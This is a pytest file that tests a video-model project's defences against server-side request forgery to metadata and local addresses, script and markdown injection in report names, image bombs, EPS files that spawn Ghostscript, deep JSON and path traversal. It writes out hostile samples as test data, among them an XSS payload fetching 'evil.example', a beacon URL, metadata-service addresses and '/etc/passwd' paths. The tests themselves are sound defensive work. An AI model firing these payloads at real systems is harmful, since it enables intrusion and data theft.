"""Webhooks that lead inside, markup in names, pictures and requests of absurd size: refused, or mere text.

`tests/chaos/mutations.py` takes each guard out and sees the test of its name fail.
"""

from __future__ import annotations

import io
import json
import socket
import stat
import struct
import threading
import zlib
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pandas as pd
import pytest

from flows import notices
from flows.compress import _show
from flows.webhook_address import ALLOW_LOCAL
from tasks.decision_report import add_note
from tasks.serving_model import MOST_ROWS, VideoStudent
from vdmini_core.artifacts import read_json, write_json
from vdmini_core.cli_generate import read_image
from vdmini_core.data.captions import read_captions
from vdmini_core.data.shards import shards_of
from vdmini_core.errors import DataError, VDMiniError
from vdmini_core.metrics.vbench_results import read_results
from vdmini_core.metrics.vbench_suite import read_first_frame, read_suite
from vdmini_core.models.base import SamplingSettings
from vdmini_core.report import evidence
from vdmini_core.report.page import render_report

SCRIPT = '<img src=x onerror="fetch(`http://evil.example`)">'


class Receiver(HTTPServer):
    """Counts what comes; answers the first with `code`, and where to go."""

    def __init__(self, code: int = 200) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.code, self.got = code, []


class Handler(BaseHTTPRequestHandler):
    server: Receiver

    def do_POST(self) -> None:
        self.server.got.append(self.path)
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.send_response(self.server.code if len(self.server.got) == 1 else 200)
        self.send_header("Location", "/latest/meta-data/")
        self.end_headers()

    do_GET = do_POST

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def receiver(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[int], Receiver]]:
    monkeypatch.setattr(notices, "PAUSES_S", ())
    for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.delenv(ALLOW_LOCAL, raising=False)
    started = []

    def start(code: int = 200) -> Receiver:
        server = Receiver(code)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        started.append(server)
        return server

    yield start
    for server in started:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize(
    "address",
    [
        "http://169.254.169.254/latest", "http://[fe80::1]/", "http://[::ffff:169.254.169.254]/",
        "http://[fd00:ec2::254]/", "http://100.100.100.200/", "http://[64:ff9b::a9fe:a9fe]/",
        "http://metadata.google.internal./", "http://0.0.0.0/", "http://localhost/", "http://a.localhost./",
        "http://192.0.0.192/", "http://168.63.129.16/", "http://metadata/", "http://instance-data/",
        "http://[2002:a9fe:a9fe::]/", "http://[::1]/", "http://224.0.0.1/",
        "file:///etc/hostname", "ftp://example.org/", "http:///x",
    ],
)  # fmt: skip
def test_a_webhook_to_metadata_or_this_machine_gets_nothing(
    address: str,
    receiver: Callable[..., Receiver],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    receiver()  # the settings
    dialled: list[Any] = []
    monkeypatch.setattr(socket, "create_connection", lambda place, *_, **__: dialled.append(place))
    monkeypatch.setenv(notices.WEBHOOK, address)
    assert not notices.notify("promoted", "x")
    assert "not delivered: VDMINI_WEBHOOK" in capsys.readouterr().err and not dialled


@pytest.mark.parametrize("host", ["hooks.example", "2130706433", "0x7f.1"])
def test_a_name_that_resolves_to_this_machine_gets_nothing(
    host: str,
    receiver: Callable[..., Receiver],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    server, real = receiver(), socket.getaddrinfo
    port = server.server_address[1]
    monkeypatch.setattr(socket, "getaddrinfo", lambda _, *more, **named: real("127.0.0.1", *more, **named))
    monkeypatch.setenv(notices.WEBHOOK, f"http://{host}:{port}/")
    assert not notices.notify("promoted", "x") and not server.got
    assert "leads to this machine" in capsys.readouterr().err
    monkeypatch.setenv(ALLOW_LOCAL, "1")
    assert notices.notify("promoted", "x") and len(server.got) == 1


@pytest.mark.parametrize(
    ("peer", "own", "said"),
    [
        ("198.18.0.7", "198.18.0.7", "leads to this machine"),  # by an address of its own on some network
        ("169.254.169.254", "198.18.0.7", "leads to a metadata service"),
        ("127.0.0.1", "127.0.0.1", "leads to this machine"),
    ],
)
def test_where_a_name_leads_is_seen_when_the_connection_stands(
    peer: str,
    own: str,
    said: str,
    receiver: Callable[..., Receiver],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    receiver()  # the settings
    sent: list[bytes] = []
    made = SimpleNamespace(
        getpeername=lambda: (peer, 80),
        getsockname=lambda: (own, 4000),
        close=lambda: None,
        sendall=sent.append,
        setsockopt=lambda *_: None,
    )
    with monkeypatch.context() as patch:
        patch.setattr(socket, "create_connection", lambda *_, **__: made)
        patch.setenv(notices.WEBHOOK, "http://hooks.example/")
        assert not notices.notify("promoted", "x")
    assert said in capsys.readouterr().err and not sent


@pytest.mark.parametrize("code", [301, 302, 303, 307, 308])
def test_a_webhook_is_not_sent_on(
    code: int, receiver: Callable[..., Receiver], monkeypatch: pytest.MonkeyPatch
) -> None:
    server = receiver(code)
    monkeypatch.setenv(ALLOW_LOCAL, "1")
    monkeypatch.setenv(notices.WEBHOOK, f"http://127.0.0.1:{server.server_address[1]}/first")
    assert not notices.notify("promoted", "x") and server.got == ["/first"]


def test_names_in_the_report_are_text(tmp_path: Path) -> None:
    artifacts = tmp_path / "artifacts"
    for name in ("prepare", "evaluate"):
        (artifacts / name).mkdir(parents=True)
    write_json(
        artifacts / "prepare" / "sources.json",
        [{"path": f"{SCRIPT}.mp4", "status": status, "reason": SCRIPT} for status in ("used", "quarantined")],
    )
    write_json(artifacts / "prepare" / "manifest.json", {"stage": "prepare", "outputs": {SCRIPT: SCRIPT}})
    page = render_report(artifacts, tmp_path / "out", SCRIPT, 1).read_text()
    assert "<img src=x" not in page and page.count("&lt;img src=x") >= 5
    assert "default-src 'none'" in page and "script-src 'sha256-" in page  # even if one slipped through


def test_names_on_prefects_and_mlflows_pages_are_text() -> None:
    shown: list[str] = []
    pages: Any = SimpleNamespace(put=lambda make, *words, **named: shown.append(json.dumps([words, named])))
    note = f"{SCRIPT} ![x](http://evil.example/beacon)\n# big"
    outcome = SimpleNamespace(table=[{"file": note, "clips": 3}], title="", charts=())
    result = SimpleNamespace(outcome=outcome, notes=[note], out=Path())
    _show(SimpleNamespace(result=result, stage="prepare"), pages)  # type: ignore[arg-type]
    client: Any = SimpleNamespace(
        get_model_version=lambda *_: SimpleNamespace(description=None),
        update_model_version=lambda *words: shown.append(words[-1]),
    )
    version: Any = SimpleNamespace(name="m", version=1)
    add_note(client, version, note)
    assert len(shown) == 3
    assert not any("<img" in text or "![x]" in text or "\n#" in text for text in shown)


def png(width: int, height: int) -> bytes:
    """A header alone, which is all that may be read of a picture too large."""
    header = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + header + struct.pack(">I", zlib.crc32(header))
    return (
        b"\x89PNG\r\n\x1a\n" + chunk + struct.pack(">I", 0) + b"IDAT" + struct.pack(">I", zlib.crc32(b"IDAT"))
    )


EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 8 8\n%%EndComments\n(x) (w) file\n%%EOF\n"


@pytest.mark.parametrize("size", [(9000, 9000), (2**31 - 1, 2**31 - 1), (1, 2**31 - 1)])
def test_image_bombs_are_refused(size: tuple[int, int], tmp_path: Path, student: VideoStudent) -> None:
    (path := tmp_path / "bomb.png").write_bytes(png(*size))
    for read in (read_image, lambda p: read_first_frame(p, 16, 16), lambda p: ask(student, p.read_bytes())):
        with pytest.raises(
            DataError, match="too large for a first frame" if size[0] == 9000 else "image|frame"
        ):
            read(path)


def test_a_picture_that_starts_a_program_is_none(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, student: VideoStudent
) -> None:
    """Pillow reads EPS by running Ghostscript."""
    (program := tmp_path / "gs").write_text(f"#!/bin/sh\ntouch {tmp_path}/canary\n")
    program.chmod(program.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", str(tmp_path), prepend=":")
    monkeypatch.setattr("PIL.EpsImagePlugin.gs_binary", None)
    (path := tmp_path / "first.png").write_bytes(EPS)
    for read in (read_image, lambda p: read_first_frame(p, 16, 16), lambda p: ask(student, p.read_bytes())):
        with pytest.raises(DataError, match="cannot be read as an image"):
            read(path)
    assert not (tmp_path / "canary").exists()


@pytest.fixture
def student(monkeypatch: pytest.MonkeyPatch) -> VideoStudent:
    """As served, of frames and prompts; nothing may reach its model."""
    made = VideoStudent()
    made.settings = SamplingSettings(frames=4, height=8, width=8, fps=4.0, steps=1)
    made.needs = ("first_frames", "prompts")

    def reached(*_: object) -> None:
        raise AssertionError("the model was asked")

    monkeypatch.setattr(VideoStudent, "_generate", reached)
    return made


def ask(student: VideoStudent, image: Any, rows: int = 1, **more: Any) -> Any:
    row = {"image": image, "prompt": "a", **more}
    return student.predict(None, pd.DataFrame([row] * rows))


FINE = np.zeros((2, 2, 3), np.uint8)
DEEP: list[Any] = [1]
for _ in range(2000):
    DEEP = [DEEP]


@pytest.mark.parametrize(
    ("request_", "why"),
    [
        ({"image": FINE, "rows": MOST_ROWS + 1}, "so many rows"),
        ({"image": FINE, "frames": 10**9}, "so many frames"),
        ({"image": FINE, "frames": -1}, "no number that can be used"),
        ({"image": FINE, "frames": float("nan")}, "no number that can be used"),
        ({"image": FINE, "seed": 2**70}, "no number that can be used"),
        ({"image": FINE, "seed": -1}, "no number that can be used"),
        ({"image": FINE, "seed": [1]}, "no number that can be used"),
        ({"image": np.zeros((2, 2, 2, 3), np.uint8)}, "this is no image"),
        ({"image": np.broadcast_to(np.uint8(0), (2**20, 2**20, 3))}, "this is no image"),
        ({"image": DEEP}, "this is no image"),
        ({"image": [[1, 2], [3]]}, "this is no image"),
        ({"image": 2**40}, "this is no image"),
        ({"image": "/etc/passwd"}, "image"),
        ({"image": "not base64 !"}, "this is no image"),
        ({"image": b"<svg onload=alert(1)>"}, "cannot be read as an image"),
    ],
)
def test_absurd_requests_are_refused(student: VideoStudent, request_: dict[str, Any], why: str) -> None:
    with pytest.raises(DataError, match=why):
        ask(student, **request_)


def test_an_absurd_prompt_is_refused(student: VideoStudent, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.undo()  # prompts are looked at on the way to the model
    student.pipeline, student.needs = None, ("prompts",)
    with pytest.raises(DataError, match="too long"):
        student.predict(None, "x" * 10**6)
    with pytest.raises(DataError, match="so many rows"):
        student.predict(None, ["x"] * 1000)


def test_json_of_absurd_depth_is_refused(tmp_path: Path) -> None:
    deep = "[" * 10**5 + "]" * 10**5
    (path := tmp_path / "captions.jsonl").write_text(deep)
    with pytest.raises(DataError, match="is no caption"):
        read_captions(tmp_path, ["a.mp4"], "files")
    path = path.rename(tmp_path / "deep.json")
    for read in (read_json, lambda p: read_suite(p, "t2v"), lambda p: read_results(p, "t2v")):
        with pytest.raises(VDMiniError):
            read(path)
    assert evidence.load(path, []) == [] and evidence.load_lines(path) == []


@pytest.mark.parametrize("name", ["../secret.safetensors", "/etc/passwd", "..", ""])
def test_an_index_of_clips_names_files_beside_it_alone(name: str, tmp_path: Path) -> None:
    write_json(tmp_path / "clips-train.index.json", {"shards": [{"file": name, "clips": 1}]})
    with pytest.raises(DataError, match="no index of clips"):
        shards_of(tmp_path, "train")


def test_good_pictures_are_read(student: VideoStudent, tmp_path: Path) -> None:
    from PIL import Image

    for kind in ("PNG", "JPEG"):
        Image.new("RGB", (9, 8)).save(made := io.BytesIO(), kind)
        with pytest.raises(AssertionError, match="the model was asked"):
            ask(student, made.getvalue())
        (path := tmp_path / "x").write_bytes(made.getvalue())
        assert read_image(path).size == (9, 8)
